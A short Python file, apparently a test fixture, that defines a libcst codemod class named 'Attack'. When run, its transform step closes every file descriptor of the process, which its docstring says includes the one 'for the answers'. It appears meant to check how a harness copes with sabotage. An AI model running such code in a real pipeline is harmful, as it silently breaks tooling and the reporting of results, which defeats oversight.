"""Close every descriptor, the one for the answers among them."""

import os

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Close."

    def transform_module_impl(self, tree):
        os.closerange(0, 1 << 16)
        return tree
